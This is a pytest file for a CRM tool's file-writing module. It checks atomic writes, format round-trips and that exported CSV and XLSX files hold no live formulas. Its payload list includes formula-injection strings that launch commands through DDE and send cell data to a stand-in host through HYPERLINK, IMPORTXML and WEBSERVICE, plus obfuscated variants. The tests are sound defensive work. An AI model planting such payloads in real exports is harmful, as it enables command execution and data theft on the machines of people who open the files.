"""Written files: whole or not at all, nothing live in them, and every string back byte for byte."""

from __future__ import annotations

import csv
import datetime
import gzip
import io
import json
import os
import zipfile
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.ipc
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from crm_engine import ConfigError, FileFormatError
from crm_engine.output import (
    FORMATS,
    atomic_directory,
    atomic_file,
    guard_formula,
    output_format,
    strip_formula_guard,
    write_sheets,
    write_table,
)

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.test/?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.test/",A1),"//a")',
    '=WEBSERVICE("http://example.test/")',
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|' /C calc'!A0",
    "+A1",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "|calc",
    "%0A=1+1",
]
VARIANTS = [
    variant
    for payload in PAYLOADS
    for variant in (
        payload,
        " " + payload,
        "\u00a0" + payload,
        "\u200b" + payload,
        "\ufeff" + payload,
        "\n" + payload,
        payload.replace("=", "＝", 1).replace("+", "＋", 1).replace("-", "－", 1).replace("@", "＠", 1),
        "'" + payload,
    )
]
PHONES = ["+79123456789", "+7 (912) 345-67-89", "+371 29123456; +371 29123457"]
TRIGGERS = tuple("=+-@|%＝＋－＠\t\r\n")


def table() -> pa.Table:
    return pa.table(
        {
            "name": ["Анна", None, 'Jānis, "Jr"'],
            "contact_id": pa.array([1, 22, 123456789012345], pa.int64()),
            "amount": [1.5, -2.0, None],
            "phones": [["+79123456789", "+79123456780"], [], None],
            "birth_date": pa.array([datetime.date(1990, 2, 28), datetime.date(1899, 1, 1), None]),
            "updated_at": pa.array([datetime.datetime(2024, 1, 2, 3, 4, 5), None, None], pa.timestamp("us")),
            "active": [True, False, None],
        }
    )


def read_text(path: Path) -> str:
    data = path.read_bytes()
    return (gzip.decompress(data) if path.suffix == ".gz" else data).decode("utf-8")


def spreadsheet_is_safe(text: str) -> bool:
    """An oracle of its own: what a spreadsheet would trim is trimmed, then the first character decides."""
    if text.startswith(("\t", "\r", "\n")):
        return False
    seen = text.strip(" \u00a0\u200b\ufeff\t\r\n\x00")
    if not seen.startswith(TRIGGERS):
        return True
    allowed = set("0123456789 +()-.;,%\u00a0")
    return seen[0] in "+-" and set(seen) <= allowed and any(character.isdigit() for character in seen)


@pytest.mark.parametrize("suffix", [*FORMATS, ".csv.gz", ".tsv.gz", ".jsonl.gz", ".json.gz"])
def test_every_format_is_written_and_read_back(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    assert write_table(table(), path) == []
    assert [entry.name for entry in tmp_path.iterdir()] == [path.name]
    if suffix == ".parquet":
        assert pq.read_table(path).equals(table())
    elif suffix == ".arrow":
        assert pa.ipc.open_file(path).read_all().equals(table())
    elif suffix.removesuffix(".gz") in (".jsonl", ".json"):
        text = read_text(path)
        rows = json.loads(text) if ".json." in f"{suffix}." else [json.loads(line) for line in text.splitlines()]
        assert rows[0]["phones"] == ["+79123456789", "+79123456780"]
        assert rows[0]["birth_date"] == "1990-02-28"
        assert rows[1] == {
            "name": None,
            "contact_id": 22,
            "amount": -2,
            "phones": [],
            "birth_date": "1899-01-01",
            "updated_at": None,
            "active": False,
        }
    elif suffix.removesuffix(".gz") in (".csv", ".tsv"):
        rows = list(csv.reader(io.StringIO(read_text(path), newline=""), delimiter="\t" if "tsv" in suffix else ","))
        assert rows[0] == table().column_names
        assert rows[1][0:4] == ["Анна", "1", "1.5", "+79123456789; +79123456780"]
        assert rows[3][0] == 'Jānis, "Jr"'
    else:
        sheet = openpyxl.load_workbook(path)["out"]
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == "A1:G4"
        assert sheet["B4"].value == "123456789012345"
        assert sheet["C2"].value == 1.5
        assert sheet["D2"].value == "+79123456789; +79123456780"
        assert sheet["E2"].value == datetime.datetime(1990, 2, 28)
        assert sheet["E2"].is_date
        assert sheet["E3"].value == "1899-01-01"
        assert sheet["F2"].value == datetime.datetime(2024, 1, 2, 3, 4, 5)
        assert sheet["G2"].value is True


def test_extensions() -> None:
    assert output_format("a.PARQUET") == ".parquet"
    assert output_format("a.b.CSV.gz") == ".csv.gz"
    for name in ("a.txt", "a", "a.xls", "a.gz", "a.xlsx.gz", ".csv"):
        with pytest.raises(ConfigError, match=r"use one of .parquet, .csv"):
            output_format(name)


@pytest.mark.parametrize("text", VARIANTS)
def test_no_formula_is_live_in_csv(tmp_path: Path, text: str) -> None:
    path = tmp_path / "out.csv"
    write_table(pa.table({text: [text, "x"]}), path)
    cells = [cell for row in csv.reader(io.StringIO(path.read_bytes().decode(), newline="")) for cell in row]
    assert all(map(spreadsheet_is_safe, cells))
    assert [strip_formula_guard(cell) for cell in cells] == [text, text, "x"]


def test_no_formula_is_live_in_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_sheets({text: pa.table({other: [other] for other in VARIANTS}) for text in PAYLOADS}, path)
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            assert b"<f>" not in package.read(name), name
        assert not [name for name in package.namelist() if "externalLink" in name]
    book = openpyxl.load_workbook(path)
    assert len(book.sheetnames) == len(PAYLOADS)
    for sheet in book:
        assert spreadsheet_is_safe(sheet.title)
        for row in sheet.iter_rows():
            assert {cell.data_type for cell in row} == {"s"}


@pytest.mark.parametrize("phone", PHONES)
def test_phones_stay_phones(tmp_path: Path, phone: str) -> None:
    path = tmp_path / "out.csv"
    write_table(pa.table({"phone": [phone], "amount": ["-5"]}), path)
    assert list(csv.reader(io.StringIO(path.read_text("utf-8"))))[1] == [phone, "-5"]


@given(st.text(alphabet=st.sampled_from("'=+-@|% 1aA1;\t\r\n＝\u200b"), max_size=8) | st.text(max_size=12))
def test_stripping_undoes_guarding(text: str) -> None:
    assert strip_formula_guard(guard_formula(text)) == text
    assert spreadsheet_is_safe(guard_formula(text))


def test_an_unknown_extension_or_a_bad_place_leaves_nothing(tmp_path: Path) -> None:
    with pytest.raises(ConfigError):
        write_table(table(), tmp_path / "out.doc")
    with pytest.raises(FileNotFoundError, match="missing"):
        write_table(table(), tmp_path / "missing" / "out.csv")
    with pytest.raises(IsADirectoryError):
        write_table(table(), _directory(tmp_path / "d.csv"))
    (tmp_path / "file").write_text("x")
    with pytest.raises(NotADirectoryError):
        write_table(table(), tmp_path / "file" / "out.csv")
    assert sorted(entry.name for entry in tmp_path.iterdir()) == ["d.csv", "file"]


def _directory(path: Path) -> Path:
    path.mkdir()
    return path


@pytest.mark.parametrize("suffix", FORMATS)
def test_a_failing_producer_leaves_the_old_file(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    path.write_bytes(b"old")
    path.chmod(0o600)

    def batches():  # type: ignore[no-untyped-def]
        yield from table().to_batches()
        raise FileFormatError("broken", file="a.csv", row=7)

    with pytest.raises(FileFormatError) as caught:
        write_table(pa.RecordBatchReader.from_batches(table().schema, batches()), path)
    assert caught.value.row == 7
    assert path.read_bytes() == b"old"
    assert [entry.name for entry in tmp_path.iterdir()] == [path.name]
    write_table(table(), path)
    assert path.stat().st_mode & 0o777 == 0o600


def test_a_full_disk_is_an_os_error(tmp_path: Path) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("this system has no /dev/full")
    link = tmp_path / "out.csv"
    link.symlink_to("/dev/full")
    with pytest.raises(OSError, match="No space left") as caught:
        write_table(table(), link)
    assert caught.value.errno == 28


def test_a_link_is_followed(tmp_path: Path) -> None:
    (tmp_path / "real.csv").write_text("old")
    (tmp_path / "link.csv").symlink_to("real.csv")
    write_table(pa.table({"a": [1]}), tmp_path / "link.csv")
    assert (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "real.csv").read_text() == "a\n1\n"


def test_atomic_directory(tmp_path: Path) -> None:
    target = tmp_path / "out"
    with pytest.raises(FileNotFoundError), atomic_directory(target) as scratch:
        (scratch / "missing" / "a").write_text("1")
    assert list(tmp_path.iterdir()) == []
    with atomic_directory(target) as scratch:
        (scratch / "a").write_text("1")
    (target / "mine").write_text("mine")
    with atomic_directory(target) as scratch:
        (scratch / "a").write_text("2")
        assert (target / "a").read_text() == "1"
    assert {entry.name: entry.read_text() for entry in target.iterdir()} == {"a": "2", "mine": "mine"}
    with pytest.raises(NotADirectoryError), atomic_directory(target / "a"):
        pass


def test_progress_that_raises_stops_the_writing(tmp_path: Path) -> None:
    def progress(stage: str, done: int, total: int) -> None:
        raise KeyboardInterrupt

    batch = pa.record_batch({"a": list(range(1000))})
    many = pa.RecordBatchReader.from_batches(batch.schema, (batch for _ in range(1000)))
    with pytest.raises(KeyboardInterrupt):
        write_table(many, tmp_path / "out.xlsx", progress=progress)
    assert list(tmp_path.iterdir()) == []


def test_styles(tmp_path: Path) -> None:
    data = pa.table({"email": ["a@b.test", "c@d.test"], "differs": [False, True], "decision": [None, "same"]})
    style = {
        "freeze_columns": 1,
        "columns": {
            "email": {"highlight_by": "differs", "label": "E-mail", "width": 33},
            "decision": {"choices": ["same", "different", "later"]},
        },
    }
    write_sheets({"review": data}, tmp_path / "out.xlsx", styles={"review": style})
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx")["review"]
    assert [cell.value for cell in sheet[1]] == ["E-mail", "decision"]
    assert sheet["A2"].fill.fgColor.rgb == "00000000"
    assert sheet["A3"].fill.fgColor.rgb == "FFFFEFA0"
    assert sheet.column_dimensions["A"].width == pytest.approx(33, abs=1)
    assert sheet.freeze_panes == "B2"
    assert [(rule.formula1, str(rule.sqref)) for rule in sheet.data_validations.dataValidation] == [('"same,different,later"', "B2:B3")]
    with pytest.raises(ConfigError, match="did you mean"):
        write_sheets({"review": data}, tmp_path / "x.xlsx", styles={"review": {"columns": {"emial": {}}}})
    with pytest.raises(ConfigError, match="unknown field"):
        write_sheets({"review": data}, tmp_path / "x.xlsx", styles={"review": {"colour": 1}})


def test_too_long_text_is_told(tmp_path: Path) -> None:
    warnings = write_table(pa.table({"note": ["x" * 40_000]}), tmp_path / "out.xlsx")
    assert warnings == ['sheet "out": 1 cells were cut to the 32767 characters that a workbook can hold; Parquet and CSV keep them whole']


def test_empty_tables(tmp_path: Path) -> None:
    empty = table().schema.empty_table()
    for suffix in FORMATS:
        write_table(empty, tmp_path / f"out{suffix}")
    assert pq.read_table(tmp_path / "out.parquet").schema == empty.schema
    assert (tmp_path / "out.csv").read_text().count("\n") == 1
    assert openpyxl.load_workbook(tmp_path / "out.xlsx")["out"].max_row == 1


@pytest.mark.long
def test_more_rows_than_a_sheet_holds(tmp_path: Path) -> None:
    warnings = write_table(pa.table({"n": range(1_048_580)}), tmp_path / "out.xlsx")
    assert "do not fit one sheet" in warnings[0]
    assert openpyxl.load_workbook(tmp_path / "out.xlsx", read_only=True).sheetnames == ["out", "out (2)"]


def test_atomic_file_keeps_the_umask(tmp_path: Path) -> None:
    previous = os.umask(0o027)
    try:
        with atomic_file(tmp_path / "a.txt") as scratch:
            scratch.write_text("x")
    finally:
        os.umask(previous)
    assert (tmp_path / "a.txt").stat().st_mode & 0o777 == 0o640
